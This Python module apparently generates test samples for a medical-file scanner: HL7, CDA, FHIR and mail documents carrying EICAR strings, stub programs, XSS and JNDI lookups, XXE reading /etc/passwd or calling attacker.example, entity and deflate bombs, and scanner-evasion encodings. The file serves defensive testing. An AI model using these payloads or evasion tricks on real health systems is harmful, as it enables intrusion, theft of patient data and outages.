"""Health-record attack files: documents inside HL7 v2, CDA and FHIR, those formats' own tricks, and nested ones.

Source: HL7 v2.5.1 sections 2.7 (escapes) and 2.A.24 (ED), MLLP release 1; CDA R2 section 4.3.1 (nonXMLBody), data type
ED (compression DF, GZ, ZL); FHIR R4 Binary, Attachment, DocumentReference, Narrative (txt-1).
"""

from __future__ import annotations

import base64
import email.message
import email.policy
import gzip
import json
import random
import textwrap
import zlib
from collections.abc import Callable, Iterator

from safecare.testing.medical_attacks.dicom import image
from safecare.testing.medical_attacks.payloads import BINARIES, EICAR, SCRIPTS, pdf, pe, zipped
from safecare.testing.medical_attacks.sample import Label, Sample

_FHIR = "http://hl7.org/fhir"


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def oru(*observations: str) -> bytes:
    """Return an HL7 v2 result message with these OBX segments."""
    lines = [
        r"MSH|^~\&|LABO|AURORE|DPI|AURORE|20260105101500||ORU^R01^ORU_R01|42|P|2.5.1||||||UNICODE UTF-8",
        "PID|1||T000042^^^AURORE^PI||EXEMPLE^ALIX||19700101|F",
        "OBR|1|||11502-2^CR d'examens biologiques^LN",
        *observations,
    ]
    return ("\r".join(lines) + "\r").encode()


def ed(raw: bytes, media: str = "application^pdf", coding: str = "Base64", wrap: str = "") -> str:
    """Return an OBX segment with `raw` as ED; `wrap` stands after every 76 letters."""
    letters = raw.hex() if coding == "Hex" else _b64(raw)
    if wrap:
        letters = wrap.join(textwrap.wrap(letters, 76))
    return f"OBX|1|ED|11502-2^CR^LN||^{media}^{coding}^{letters}||||||F"


def cda(body: str, head: str = "", title: str = "Compte rendu") -> bytes:
    """Return a CDA document with `body` below its component; `head` stands before the root."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{head}<ClinicalDocument xmlns="urn:hl7-org:v3" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><typeId root="2.16.840.1.113883.1.3" '
        f'extension="POCD_HD000040"/><title>{title}</title><component>{body}</component></ClinicalDocument>\n'
    ).encode()


def non_xml(raw: bytes, media: str = "application/pdf", compression: str = "", wrap: int = 0) -> str:
    """Return a nonXMLBody with `raw`, packed as `compression` says."""
    packed = {
        "": lambda: raw,
        "DF": lambda: zlib.compress(raw, 9, -15),
        "ZL": lambda: zlib.compress(raw),
        "GZ": lambda: gzip.compress(raw, mtime=0),
        "ZIP": lambda: zipped({"document": raw}),
    }[compression]()
    letters = _b64(packed)
    if wrap:
        letters = "\n".join(textwrap.wrap(letters, wrap))
    told = f' compression="{compression}"' if compression and compression != "ZIP" else ""
    return f'<nonXMLBody><text mediaType="{media}" representation="B64"{told}>{letters}</text></nonXMLBody>'


def section(text: str) -> str:
    """Return a structured body with one narrative block."""
    return f"<structuredBody><component><section><text>{text}</text></section></component></structuredBody>"


def fhir(resource: dict[str, object]) -> bytes:
    """Return a FHIR resource as JSON."""
    return json.dumps(resource, ensure_ascii=False, indent=1).encode()


def binary(raw: bytes, media: str = "application/pdf") -> dict[str, object]:
    """Return a FHIR Binary."""
    return {"resourceType": "Binary", "contentType": media, "data": _b64(raw)}


def reference(raw: bytes, media: str = "application/zip") -> dict[str, object]:
    """Return a FHIR DocumentReference."""
    content = [{"attachment": {"contentType": media, "data": _b64(raw), "title": "CR"}}]
    return {"resourceType": "DocumentReference", "status": "current", "content": content}


def narrative(div: str) -> dict[str, object]:
    """Return a FHIR Patient with a narrative."""
    text = {"status": "generated", "div": f'<div xmlns="http://www.w3.org/1999/xhtml">{div}</div>'}
    return {"resourceType": "Patient", "text": text, "gender": "unknown"}


def mail(raw: bytes, name: str, media: str) -> bytes:
    """Return a mail with one attachment."""
    made = email.message.EmailMessage(email.policy.SMTP)
    made["From"], made["To"] = "labo@hopital.example", "dpi@hopital.example"
    made["Subject"], made["Date"] = "Resultat", "Mon, 05 Jan 2026 10:15:00 +0100"
    made["Message-ID"] = "<42@hopital.example>"
    made.set_content("Ci-joint le compte rendu.")
    main, _, sub = media.partition("/")
    made.add_attachment(raw, maintype=main, subtype=sub, filename=name)
    made.set_boundary("safecare-boundary")
    return made.as_bytes()


def _one(family: str, technique: str, variant: str, what: str, raw: bytes, label: Label = "attack") -> Sample:
    ending = {"hl7": "hl7", "cda": "xml", "fhir": "xml" if raw.startswith(b"<") else "json", "mail": "eml"}[family]
    name = f"{family}-{technique}-{variant}.{ending}"
    twin = "" if label == "benign" else f"{family}-benign-{TWINS[family]}"
    return Sample(name=name, label=label, family=family, technique=technique, what=what, raw=raw, twin=twin)


TWINS = {"hl7": "pdf.hl7", "cda": "pdf.xml", "fhir": "binary.json", "mail": "hl7.eml"}
"""Benign twin by family."""


def hl7(_: random.Random) -> Iterator[Sample]:
    """Yield HL7 v2 messages with documents, and with more segments than they show."""
    payloads = {"eicar": EICAR, "pe": pe(), "zip": zipped(), "elf": BINARIES["elf"], "pdf": pdf(extra=EICAR)}
    for name, raw in {**payloads, "html": SCRIPTS["html"], "lnk": BINARIES["lnk"]}.items():
        yield _one("hl7", "ed", name, f"An ED value holds a {name}.", oru(ed(raw)))
    for name, wrap in (
        ("br", "\\.br\\"),
        ("hex", "\\X0D0A\\"),
        ("hex2", "\\X0A\\"),
        ("spaces", " "),
        ("lf", "\n"),
        ("repeat", "~"),
    ):
        yield _one("hl7", "ed-wrapped", name, f"Base64 wrapped by {name!r}.", oru(ed(EICAR * 3, wrap=wrap)))
    yield _one("hl7", "ed", "hex-coded", "An ED value in hexadecimal.", oru(ed(pe(), coding="Hex")))
    yield _one(
        "hl7", "ed", "plain", "An ED value that is not coded.", oru(f"OBX|1|ED|1||^TEXT^plain^A^{EICAR.decode()}")
    )
    yield _one("hl7", "ed", "mllp", "With the frame of MLLP.", b"\x0b" + oru(ed(EICAR)) + b"\x1c\r")
    yield _one("hl7", "ed", "lf-ends", "Segments end in LF.", oru(ed(EICAR)).replace(b"\r", b"\n"))
    yield _one("hl7", "ed", "second", "The second OBX carries it.", oru(ed(pdf("")), ed(EICAR)))
    batch = b"FHS|^~\\&\rBHS|^~\\&\r" + oru(ed(pdf(""))) + oru(ed(EICAR)) + b"BTS|2\rFTS|1\r"
    yield _one("hl7", "ed", "batch", "The second message of a batch carries it.", batch)
    odd = oru(ed(EICAR)).replace(b"|", b"#").replace(b"^", b"@")
    yield _one("hl7", "ed", "separators", "Other separators.", odd)
    nested = oru(ed(cda(non_xml(EICAR)), "text^xml"))
    yield _one("hl7", "nested", "cda", "ED > CDA > EICAR.", nested)
    deep = oru(ed(cda(non_xml(zipped({"cr.pdf": pdf(extra=EICAR)}), "application/zip")), "text^xml"))
    yield _one("hl7", "nested", "cda-zip-pdf", "ED > CDA > ZIP > PDF.", deep)
    for name, text in (
        ("segment", "Normal\\X0D\\OBX|2|NM|K^Potassium||9.9|mmol/L"),
        ("message", "Normal\\X0D\\MSH|^~\\&|X|X|X|X|20260105||ADT^A01|1|P|2.5\\X0D\\PID|1"),
        ("frame", "Normal\\X1C0D\\\\X0B\\MSH|^~\\&|X"),
        ("lf-hex", "Normal\\X0A\\OBX\\F\\2\\F\\NM\\F\\K\\F\\\\F\\9.9"),
    ):
        yield _one("hl7", "smuggled", name, f"Escapes hide a {name}.", oru(f"OBX|1|TX|1||{text}"))
    raw = oru("OBX|1|TX|1||Normal\nOBX|2|NM|K^Potassium||9.9|mmol/L")
    yield _one("hl7", "smuggled", "lf", "A segment after LF where segments end in CR.", raw)
    for name in ("script-tag", "event-handler", "lookup", "javascript"):
        text = {
            "script-tag": "<script>console.log(1)</script>",
            "event-handler": "<img src=x onerror=console.log(1)>",
            "lookup": "${jndi:ldap://attacker.example/a}",
            "javascript": "<a href=javascript:console.log(1)>x</a>",
        }[name]
        yield _one("hl7", "text", name, f"A text holds {name}.", oru(f"OBX|1|TX|1||{text.replace('&', 'T')}"))
    pointer = "OBX|1|RP|1||\\\\attacker.example\\share\\cr.exe^^application^octet-stream"
    yield _one("hl7", "remote", "pointer", "A reference pointer to a program on a foreign share.", oru(pointer))


def clinical(_: random.Random) -> Iterator[Sample]:
    """Yield CDA documents with embedded files, scripts, entities and foreign stylesheets."""
    for name, raw in {"eicar": EICAR, "pe": pe(), "zip": zipped(), "html": SCRIPTS["html"]}.items():
        yield _one("cda", "body", name, f"nonXMLBody holds a {name}.", cda(non_xml(raw)))
    for compression in ("DF", "ZL", "GZ", "ZIP"):
        body = cda(non_xml(EICAR, compression=compression))
        yield _one("cda", "body-packed", compression.lower(), f"nonXMLBody packed as {compression}.", body)
    yield _one("cda", "body", "wrapped", "Base64 in lines of 76.", cda(non_xml(EICAR * 4, wrap=76)))
    yield _one("cda", "body", "utf-16", "The document is UTF-16.", cda(non_xml(EICAR)).decode().encode("utf-16"))
    media = f'<value xsi:type="ED" mediaType="image/png" representation="B64">{_b64(pe())}</value>'
    multimedia = f'<structuredBody><component><section><entry><observationMedia classCode="OBS" moodCode="EVN">{media}'
    multimedia += "</observationMedia></entry></section></component></structuredBody>"
    yield _one("cda", "body", "media", "observationMedia is a program.", cda(multimedia))
    cut = cda(non_xml(EICAR)).replace(b"</component></ClinicalDocument>", b"")
    yield _one("cda", "body", "not-well-formed", "Not well-formed, so that scanners give up.", cut)
    mixed = cda(
        f"<nonXMLBody><text representation='B64'>{_b64(EICAR)[:20]}<!-- x -->{_b64(EICAR)[20:]}</text></nonXMLBody>"
    )
    yield _one("cda", "body", "comment", "A comment divides the Base64.", mixed)
    data = cda(f"<nonXMLBody><text representation='B64'><![CDATA[{_b64(EICAR)}]]></text></nonXMLBody>")
    yield _one("cda", "body", "cdata", "Base64 in CDATA.", data)
    for name, text in (
        ("script", "<script>console.log(1)</script>"),
        ("handler", "<table onmouseover=\"console.log('x')\"><tr><td>x</td></tr></table>"),
        ("link", '<linkHtml href="javascript:console.log(1)">x</linkHtml>'),
        ("iframe", '<iframe src="https://attacker.example/"/>'),
        ("escaped", "&lt;script&gt;console.log(1)&lt;/script&gt;"),
        ("link-entity", '<linkHtml href="java&#x0A;script:console.log(1)">x</linkHtml>'),
    ):
        yield _one("cda", "narrative", name, f"The narrative block: {name}.", cda(section(text)))
    reference = '<nonXMLBody><text><reference value="javascript:console.log(1)"/></text></nonXMLBody>'
    yield _one("cda", "narrative", "reference", "The body refers to a script.", cda(reference))
    for name, head in (
        ("xxe-file", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
        ("xxe-http", '<!DOCTYPE x [<!ENTITY e SYSTEM "http://attacker.example/e">]>'),
        ("parameter", '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'),
        ("external-dtd", '<!DOCTYPE ClinicalDocument SYSTEM "http://attacker.example/c.dtd">'),
    ):
        title = "&e;" if "xxe" in name else "x"
        yield _one("cda", "entity", name, f"A document type: {name}.", cda(section("x"), head, title))
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE x [<!ENTITY a0 "lol">{levels}]>'
    yield _one("cda", "bomb", "billion-laughs", "Entities within entities.", cda(section("x"), bomb, "&a9;"))
    quadratic = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'
    yield _one("cda", "bomb", "quadratic", "One long entity many times.", cda(section("&a;" * 5000), quadratic))
    yield _one("cda", "bomb", "depth", "200,000 elements within each other.", cda("<a>" * 200_000 + "</a>" * 200_000))
    packed = cda(non_xml(bytes(80_000_000), compression="DF"))
    yield _one("cda", "bomb", "deflate", "A body that inflates to 80 MB.", packed)
    for name, href in (("http", "http://attacker.example/c.xsl"), ("share", "file://attacker.example/share/c.xsl")):
        head = f'<?xml-stylesheet type="text/xsl" href="{href}"?>\n'
        yield _one("cda", "stylesheet", name, f"A stylesheet from {href}.", cda(section("x"), head))
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    yield _one("cda", "entity", "xinclude", "An XInclude of a local file.", cda(section(include)))


def resources(_: random.Random) -> Iterator[Sample]:
    """Yield FHIR resources with embedded files and scripts."""
    for name, raw in {"eicar": EICAR, "pe": pe(), "zip": zipped(), "html": SCRIPTS["html"]}.items():
        yield _one("fhir", "binary", name, f"A Binary is a {name}.", fhir(binary(raw)))
    yield _one("fhir", "reference", "zip", "A DocumentReference with an archive.", fhir(reference(zipped())))
    escaped = fhir(binary(EICAR)).decode()
    letters = _b64(EICAR)
    escaped = escaped.replace(letters, "".join(f"\\u{ord(one):04x}" for one in letters))
    yield _one("fhir", "binary", "escaped", "The data is written in \\u escapes.", escaped.encode())
    keys = fhir(binary(EICAR)).replace(b'"data"', b'"d\\u0061ta"')
    yield _one("fhir", "binary", "escaped-key", "The name of the data is written in escapes.", keys)
    for name, coding in (("utf-16", "utf-16"), ("utf-8-bom", "utf-8-sig")):
        yield _one("fhir", "binary", name, f"Coded as {name}.", fhir(binary(EICAR)).decode().encode(coding))
    xml = f'<Binary xmlns="{_FHIR}"><contentType value="application/pdf"/><data value="{letters}"/></Binary>'
    yield _one("fhir", "xml", "binary", "A Binary in XML.", xml.encode())
    inner = f'<attachment><contentType value="application/pdf"/><data value="{_b64(zipped())}"/></attachment>'
    xml = f'<DocumentReference xmlns="{_FHIR}"><status value="current"/><content>{inner}</content></DocumentReference>'
    yield _one("fhir", "xml", "reference", "A DocumentReference in XML.", xml.encode())
    entry = [{"resource": narrative("x")}, {"resource": reference(cda(non_xml(EICAR)), "text/xml")}]
    bundle = fhir({"resourceType": "Bundle", "type": "document", "entry": entry})
    yield _one("fhir", "nested", "bundle-cda", "Bundle > DocumentReference > CDA > EICAR.", bundle)
    lines = b"\n".join(json.dumps(one).encode() for one in (narrative("x"), binary(EICAR)))
    yield _one("fhir", "binary", "ndjson", "The second line of a bulk export.", lines + b"\n")
    extension = [{"url": "http://hospital.example/x", "valueBase64Binary": _b64(pe())}]
    yield _one(
        "fhir", "binary", "extension", "An extension is a program.", fhir({**narrative("x"), "extension": extension})
    )
    photo = [{"contentType": "image/png", "data": _b64(pe())}]
    yield _one("fhir", "binary", "photo", "A photo is a program.", fhir({**narrative("x"), "photo": photo}))
    contained = [binary(EICAR)]
    yield _one("fhir", "nested", "contained", "A contained Binary.", fhir({**narrative("x"), "contained": contained}))
    dicom = image(random.Random(1), preamble=pe()[:128]).write()
    yield _one(
        "fhir", "nested", "dicom", "Binary > DICOM with a program's preamble.", fhir(binary(dicom, "application/dicom"))
    )
    for name, div in (
        ("script", "<script>console.log(1)</script>"),
        ("handler", "<p onclick='console.log(1)'>x</p>"),
        ("link", "<a href='javascript:console.log(1)'>x</a>"),
        ("iframe", "<iframe src='https://attacker.example/'></iframe>"),
        ("object", "<object data='https://attacker.example/x'></object>"),
        ("form", "<form action='https://attacker.example/'><input name='a'/></form>"),
        ("svg", "<svg><a xlink:href='javascript:console.log(1)'>x</a></svg>"),
    ):
        yield _one("fhir", "narrative", name, f"The narrative: {name}.", fhir(narrative(div)))
    xml = (
        f'<Patient xmlns="{_FHIR}"><text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml">'
        "<script>console.log(1)</script></div></text></Patient>"
    )
    yield _one("fhir", "narrative", "xml-script", "The narrative in XML: script.", xml.encode())
    head = '<!DOCTYPE Patient [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n'
    xml = f'{head}<Patient xmlns="{_FHIR}"><id value="&e;"/></Patient>'
    yield _one("fhir", "entity", "xxe", "An external entity.", xml.encode())
    for name, url in (
        ("file", "file:///etc/passwd"),
        ("share", "\\\\attacker.example\\s\\x"),
        ("script", "javascript:console.log(1)"),
    ):
        attachment = [{"attachment": {"contentType": "application/pdf", "url": url}}]
        raw = fhir({"resourceType": "DocumentReference", "content": attachment})
        yield _one("fhir", "remote", name, f"An attachment at {url}.", raw)
    deep = '{"resourceType":"Patient","extension":' + "[" * 100_000 + "]" * 100_000 + "}"
    yield _one("fhir", "bomb", "depth", "100,000 lists within each other.", deep.encode())
    twice = fhir(binary(pdf(""))).replace(b'"data"', b'"data": "' + letters.encode() + b'", "data"')
    yield _one("fhir", "binary", "twice", "The data stands twice: readers differ on which one counts.", twice)


def mails(rng: random.Random) -> Iterator[Sample]:
    """Yield mails that carry medical files that carry the rest."""
    message = oru(ed(cda(non_xml(zipped({"cr.pdf": pdf(extra=EICAR)}), "application/zip")), "text^xml"))
    what = "Mail > HL7 > CDA > ZIP > PDF."
    yield _one("mail", "nested", "hl7-cda-zip-pdf", what, mail(message, "resultat.hl7", "x-application/hl7-v2+er7"))
    dicom = image(rng, preamble=pe()[:128]).write()
    yield _one("mail", "nested", "dicom", "Mail > DICOM.", mail(dicom, "image.dcm", "application/dicom"))
    packed = zipped({"DICOM/IM1": dicom}, b"")
    yield _one("mail", "nested", "zip-dicom", "Mail > ZIP > DICOM.", mail(packed, "images.zip", "application/zip"))
    raw = fhir(reference(zipped()))
    yield _one("mail", "nested", "fhir", "Mail > FHIR > ZIP.", mail(raw, "cr.json", "application/fhir+json"))


def benign(_: random.Random) -> Iterator[Sample]:
    """Yield the honest twins."""
    wrapped = oru(ed(pdf("") * 3, wrap="\\X0D0A\\"))
    escapes = oru("OBX|1|FT|1||Ligne 1\\.br\\Ligne 2\\X0D\\\\X0A\\3 \\T\\ 4 \\F\\ 5 < 6")
    table = '<table border="1"><tr><td>CRP &lt; 5</td></tr></table>'
    link = '<linkHtml href="https://www.has-sante.fr/">HAS</linkHtml>'
    sheet = '<?xml-stylesheet type="text/xsl" href="CDA.xsl"?>\n'
    html = "<p>CRP &lt; 5 <b>normal</b> <a href='https://www.has-sante.fr/'>HAS</a></p>"
    elsewhere = [{"attachment": {"url": "https://pacs.hopital.example/Binary/1"}}]
    document: dict[str, object] = {"resourceType": "DocumentReference", "content": elsewhere}
    data = f'<contentType value="application/pdf"/><data value="{_b64(pdf(""))}"/>'
    message = oru(ed(pdf("")))
    told: dict[str, tuple[str, str, bytes]] = {
        "pdf.hl7": ("hl7", "A message with a PDF.", message),
        "wrapped.hl7": ("hl7", "Wrapped Base64.", wrapped),
        "cda.hl7": ("hl7", "A message with a CDA document.", oru(ed(cda(non_xml(pdf(""))), "text^xml"))),
        "escapes.hl7": ("hl7", "Escapes for line ends and separators.", escapes),
        "text.hl7": ("hl7", "A text with angle brackets.", oru("OBX|1|TX|1||CRP < 5 mg/L ; Na > 135 <normal>")),
        "mllp.hl7": ("hl7", "With the frame of MLLP.", b"\x0b" + oru("OBX|1|NM|K||4.1") + b"\x1c\r"),
        "batch.hl7": ("hl7", "Two messages in one file.", oru("OBX|1|NM|K||4.1") * 2),
        "pdf.xml": ("cda", "A document with a PDF body.", cda(non_xml(pdf("")))),
        "packed.xml": ("cda", "A deflated body.", cda(non_xml(b"Texte " * 100, "text/plain", "DF"))),
        "narrative.xml": ("cda", "A narrative with table and link.", cda(section(table + link))),
        "stylesheet.xml": ("cda", "A stylesheet beside it.", cda(section("x"), sheet)),
        "binary.json": ("fhir", "A Binary with a PDF.", fhir(binary(pdf("")))),
        "narrative.json": ("fhir", "A narrative.", fhir(narrative(html))),
        "url.json": ("fhir", "An attachment elsewhere.", fhir(document)),
        "binary.xml": ("fhir", "A Binary in XML.", f'<Binary xmlns="{_FHIR}">{data}</Binary>'.encode()),
        "hl7.eml": ("mail", "A mail with a message.", mail(message, "resultat.hl7", "x-application/hl7-v2+er7")),
    }
    for name, (family, what, raw) in told.items():
        yield Sample(
            name=f"{family}-benign-{name}", label="benign", family=family, technique="benign", what=what, raw=raw
        )


FAMILIES: tuple[Callable[[random.Random], Iterator[Sample]], ...] = (benign, hl7, clinical, resources, mails)
"""All makers of health-record samples."""
